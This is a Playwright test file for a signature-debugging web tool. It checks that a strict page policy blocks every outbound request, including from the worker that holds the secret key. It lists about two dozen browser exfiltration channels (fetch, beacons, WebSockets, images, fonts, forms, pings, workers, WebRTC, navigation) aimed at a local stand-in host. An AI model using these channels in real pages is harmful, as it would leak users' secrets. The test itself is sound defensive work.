import { createSocket } from 'node:dgram'
import type { Socket } from 'node:dgram'
import { createServer } from 'node:http'
import type { Server } from 'node:http'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from '@playwright/test'

/** What an attacker's script could try from within the page. Each is given an address outside, and may throw. */
const ways: Readonly<Record<string, (outside: string) => unknown>> = {
  fetch: (outside) => fetch(`${outside}fetch`, { mode: 'no-cors' }),
  'fetch with keepalive': (outside) => fetch(`${outside}keepalive`, { mode: 'no-cors', keepalive: true }),
  XMLHttpRequest: (outside) => {
    const request = new XMLHttpRequest()
    request.open('GET', `${outside}xhr`)
    request.send()
  },
  sendBeacon: (outside) => navigator.sendBeacon(`${outside}beacon`, 'x'),
  WebSocket: (outside) => new WebSocket(outside.replace('http', 'ws')),
  EventSource: (outside) => new EventSource(`${outside}events`),
  'an image': (outside) => {
    new Image().src = `${outside}image`
  },
  'a picture of a style': (outside) => {
    document.body.style.backgroundImage = `url(${outside}background)`
  },
  'a font': (outside) => new FontFace('outside', `url(${outside}font)`).load(),
  'an import': (outside) => import(/* @vite-ignore */ `${outside}module.js`),
  'a script': (outside) => {
    const script = document.createElement('script')
    script.setAttribute('src', `${outside}script.js`)
    document.head.append(script)
  },
  'a frame': (outside) => {
    const frame = document.createElement('iframe')
    frame.src = `${outside}frame`
    document.body.append(frame)
  },
  'an object': (outside) => {
    const object = document.createElement('object')
    object.data = `${outside}object`
    document.body.append(object)
  },
  'a video': (outside) => {
    const video = document.createElement('video')
    video.src = `${outside}video`
    document.body.append(video)
  },
  links: (outside) => {
    for (const rel of [
      'stylesheet',
      'prefetch',
      'preload',
      'modulepreload',
      'preconnect',
      'icon',
      'manifest',
    ]) {
      const link = document.createElement('link')
      link.rel = rel
      link.as = 'fetch'
      link.href = `${outside}${rel}`
      document.head.append(link)
    }
  },
  'a form': (outside) => {
    const form = document.createElement('form')
    form.action = `${outside}form`
    form.method = 'post'
    document.body.append(form)
    form.submit()
  },
  'a ping': (outside) => {
    const anchor = document.createElement('a')
    anchor.href = '#'
    anchor.ping = `${outside}ping`
    document.body.append(anchor)
    anchor.click()
  },
  markup: (outside) => {
    document.body.innerHTML = `<img src="${outside}markup">`
  },
  'a worker of a blob': (outside) =>
    new Worker(URL.createObjectURL(new Blob([`fetch('${outside}worker', { mode: 'no-cors' })`]))),
  'a service worker': (outside) => navigator.serviceWorker.register(`${outside}service.js`),
  'a policy of its own': () =>
    globalThis.trustedTypes?.createPolicy('evil', { createScriptURL: (url) => url }),
  // Only the header Connection-Allowlist stops these.
  'another window': (outside) => open(`${outside}window`),
  'another address': (outside) => location.assign(`${outside}address`),
  'a link that is followed': (outside) => {
    const anchor = document.createElement('a')
    anchor.href = `${outside}link`
    document.body.append(anchor)
    anchor.click()
  },
  WebRTC: (outside) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: outside }] })
    connection.createDataChannel('x')
    return connection.createOffer().then((offer) => connection.setLocalDescription(offer))
  },
}

let server: Server
let socket: Socket
const asked: string[] = []
let web = ''
let stun = ''

/** A host outside: what it hears has left the page. */
test.beforeAll(async () => {
  server = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.end()
  })
  server.on('upgrade', (request, connection) => {
    asked.push(`upgrade ${request.url}`)
    connection.destroy()
  })
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
  const bound = server.address()
  web = `http://127.0.0.1:${typeof bound === 'object' ? bound?.port : ''}/`
  socket = createSocket('udp4')
  socket.on('message', () => asked.push('datagram'))
  await new Promise<void>((listening) => socket.bind(0, '127.0.0.1', listening))
  stun = `stun:127.0.0.1:${socket.address().port}`
})

test.afterAll(() => {
  server.closeAllConnections()
  server.close()
  socket.close()
})

test.beforeEach(() => {
  asked.length = 0
})

test('the host outside hears a page that has no policy', async ({ page }) => {
  await page.goto(web)
  await page.evaluate(ways['fetch'] ?? (() => {}), web)
  await page.evaluate(ways['WebRTC'] ?? (() => {}), stun)
  await expect.poll(() => new Set(asked)).toEqual(new Set(['/', '/favicon.ico', '/fetch', 'datagram']))
})

for (const [name, way] of Object.entries(ways))
  test(`no way out: ${name}`, async ({ page }) => {
    await page.goto('/')
    await expect(page.getByText('0 requests since load')).toBeAttached()
    await page.evaluate(way, name === 'WebRTC' ? stun : web).catch(() => {})
    await page.waitForTimeout(name === 'WebRTC' ? 1_000 : 300)
    expect(asked).toEqual([])
  })

test('no way out: from the worker that holds the key', async ({ page }) => {
  await page.goto('/')
  await expect(page.getByText('0 requests since load')).toBeAttached()
  const [worker] = page.workers()
  const names = await worker?.evaluate(async (outside) => {
    const tries = [
      () => fetch(`${outside}fetch`, { mode: 'no-cors' }),
      () => import(/* @vite-ignore */ `${outside}module.js`),
      async () => new WebSocket(outside.replace('http', 'ws')),
      async () => new EventSource(`${outside}events`),
      async () =>
        new Worker(URL.createObjectURL(new Blob([`fetch('${outside}worker', { mode: 'no-cors' })`]))),
    ]
    await Promise.allSettled(tries.map(async (attempt) => attempt()))
    return ['RTCPeerConnection', 'open', 'sendBeacon'].filter((name) => name in globalThis)
  }, web)
  await page.waitForTimeout(300)
  expect(asked).toEqual([])
  expect(names).toEqual([])
})

test('with the network off everything goes on: paste, key, search, report, link', async ({
  context,
  page,
}) => {
  await page.goto('/')
  await expect(page.getByText('0 requests since load')).toBeAttached()
  await context.setOffline(true)
  await page.getByRole('button', { name: /A request that verifies/ }).click()
  const verdict = page.getByRole('region', { name: 'Verdict' })
  await expect(verdict).toHaveAttribute('data-outcome', 'valid')
  await page.getByRole('textbox', { name: 'Secret key' }).fill('another secret that is nobody’s')
  await expect(verdict).toHaveAttribute('data-outcome', 'unexplained')
  await page.getByRole('button', { name: 'Replace' }).click()
  const capture = readFileSync(join(import.meta.dirname, '../captures/founding-capture.txt'), 'utf8')
  await page.getByRole('textbox', { name: 'Capture' }).fill(capture)
  await expect(verdict).toHaveAttribute('data-outcome', 'likely')
  await page.getByRole('button', { name: 'Share debug link' }).click()
  await expect(page.getByText(/characters: works in chat/)).toBeVisible()
  await page.keyboard.press('Escape')
  const saved = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Export' }).click()
  await page.getByRole('button', { name: 'JSON report' }).click()
  expect((await saved).suggestedFilename()).toBe('whysig-report.json')
  await expect(page.getByText('0 requests since load')).toBeVisible()
})
